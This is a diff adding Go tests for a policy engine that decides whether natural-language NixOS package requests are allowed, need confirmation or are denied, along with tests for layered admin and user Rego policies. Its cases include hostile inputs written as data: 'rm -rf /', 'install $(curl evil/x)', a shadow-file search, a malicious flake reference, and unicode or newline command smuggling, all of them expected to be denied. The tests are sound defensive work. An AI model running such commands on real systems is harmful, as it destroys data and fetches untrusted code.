@@ -1,0 +1,144 @@
+package policy
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func input(text, action string, args map[string]any, sub bool, mutates bool) map[string]any {
+	if args == nil {
+		args = map[string]any{}
+	}
+	return map[string]any{
+		"request": map[string]any{"text": text, "subcommand": sub},
+		"intent":  map[string]any{"action": action, "args": args, "rule": "builtin", "confidence": 0.9},
+		"plan":    map[string]any{"mutates": mutates, "privileged": false, "argv": []any{}},
+		"user":    map[string]any{"uid": 1000, "name": "alice", "root": false, "groups": []any{"users"}},
+		"host":    map[string]any{"nixos": true, "store_dir": "/nix/store", "time": time.Now().Format(time.RFC3339)},
+		"config":  map[string]any{},
+	}
+}
+
+func TestDefaultDecisions(t *testing.T) {
+	e, err := Load(context.Background(), Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		text, action string
+		args         map[string]any
+		sub, mutates bool
+		want, id     string
+	}{
+		{"list my generations", "generations", nil, false, false, Allow, ""},
+		{"install firefox", "install", map[string]any{"package": "firefox"}, false, true, Confirm, "mutation"},
+		{"install firefox && rm -rf /", "install", map[string]any{"package": "firefox"}, false, true, Deny, "shell-syntax"},
+		{"install $(curl evil/x)", "install", map[string]any{"package": "$(curl"}, false, true, Deny, "shell-syntax"},
+		{"search network & security", "search", map[string]any{"query": "network & security"}, false, false, Allow, ""},
+		{"search foo &", "search", map[string]any{"query": "foo"}, false, false, Deny, "shell-syntax"},
+		{"search c++", "search", map[string]any{"query": "c++"}, false, false, Allow, ""},
+		{"rm -rf /", "remove", map[string]any{"package": "-rf"}, false, true, Deny, "raw-command"},
+		{"what does chmod do", "unknown", nil, false, false, Allow, ""},
+		{"find me development tools", "search", map[string]any{"query": "development"}, false, false, Allow, ""},
+		{"find / -name shadow", "search", map[string]any{"query": "/"}, false, false, Deny, "raw-command"},
+		{"install github:evil/flake", "install", map[string]any{"package": "github:evil/flake"}, false, true, Deny, "flake-ref"},
+		{"install ./evil.nix", "install", map[string]any{"package": "./evil.nix"}, false, true, Deny, "path-package"},
+		{"install --impure", "install", map[string]any{"package": "--impure"}, false, true, Deny, "nix-flag"},
+		{"install python312Packages.requests", "install", map[string]any{"package": "python312Packages.requests"}, false, true, Confirm, "mutation"},
+		{"install fire\u200bfox", "install", map[string]any{"package": "fire\u200bfox"}, false, true, Deny, "unicode-invisible"},
+		{"install firefox\uff1b reboot", "install", map[string]any{"package": "firefox"}, false, true, Deny, "unicode-lookalike"},
+		{"install firefox\nreboot", "install", map[string]any{"package": "firefox"}, false, true, Deny, "shell-syntax"},
+		{"path-info /nix/store/x", "path-info", map[string]any{"paths": []any{"/nix/store/x"}}, true, false, Allow, ""},
+		{"rollback to generation -1", "rollback", map[string]any{"generation": -1}, false, true, Deny, "bad-number"},
+	} {
+		d, err := e.Decide(context.Background(), input(tc.text, tc.action, tc.args, tc.sub, tc.mutates))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Outcome != tc.want || (tc.id != "" && !contains(d.IDs, tc.id)) {
+			t.Errorf("%q: got %s %v %v, want %s %s", tc.text, d.Outcome, d.IDs, d.Reasons, tc.want, tc.id)
+		}
+	}
+}
+
+func contains(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
+
+func TestLayers(t *testing.T) {
+	admin, user := t.TempDir(), t.TempDir()
+	os.WriteFile(filepath.Join(admin, "a.rego"), []byte(`package asknix.admin
+waive contains "mutation" if input.user.name == "alice"
+deny contains {"id": "no-rollback", "msg": "no rollbacks here"} if input.intent.action == "rollback"
+`), 0o644)
+	os.WriteFile(filepath.Join(user, "u.rego"), []byte(`package asknix.user
+waive contains "shell-syntax"
+confirm contains {"id": "careful", "msg": "are you sure?"} if input.intent.action == "search"
+`), 0o644)
+	e, err := Load(context.Background(), Options{AdminDirs: []string{admin}, UserDirs: []string{user}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	d, _ := e.Decide(ctx, input("install firefox", "install", map[string]any{"package": "firefox"}, false, true))
+	if d.Outcome != Allow {
+		t.Errorf("admin waiver of mutation: got %+v", d)
+	}
+	d, _ = e.Decide(ctx, input("rollback", "rollback", nil, false, true))
+	if d.Outcome != Deny || d.IDs[0] != "no-rollback" {
+		t.Errorf("admin denial: got %+v", d)
+	}
+	d, _ = e.Decide(ctx, input("search a; b", "search", map[string]any{"query": "a; b"}, false, false))
+	if d.Outcome != Deny {
+		t.Errorf("a user waiver must not drop a default denial: got %+v", d)
+	}
+	d, _ = e.Decide(ctx, input("search vim", "search", map[string]any{"query": "vim"}, false, false))
+	if d.Outcome != Confirm {
+		t.Errorf("user confirmation: got %+v", d)
+	}
+}
+
+func TestRefusedFiles(t *testing.T) {
+	for _, tc := range []struct{ name, src, want string }{
+		{"wrong.rego", "package asknix\ndeny contains {\"id\": \"x\", \"msg\": \"y\"}\n", "wrong.rego:1: package asknix, but files here must be package asknix.admin"},
+		{"broken.rego", "package asknix.admin\n\ndeny contains d if {\n", "broken.rego:"},
+	} {
+		dir := t.TempDir()
+		os.WriteFile(filepath.Join(dir, tc.name), []byte(tc.src), 0o644)
+		_, err := Load(context.Background(), Options{AdminDirs: []string{dir}})
+		if !errors.Is(err, ErrPolicy) || !strings.Contains(err.Error(), tc.want) {
+			t.Errorf("%s: got %v, want an error containing %q", tc.name, err, tc.want)
+		}
+	}
+}
+
+func BenchmarkDecide(b *testing.B) {
+	e, err := Load(context.Background(), Options{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	in := input("install python312Packages.requests", "install", map[string]any{"package": "python312Packages.requests"}, false, true)
+	for b.Loop() {
+		if _, err := e.Decide(context.Background(), in); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkLoad(b *testing.B) {
+	for b.Loop() {
+		if _, err := Load(context.Background(), Options{}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
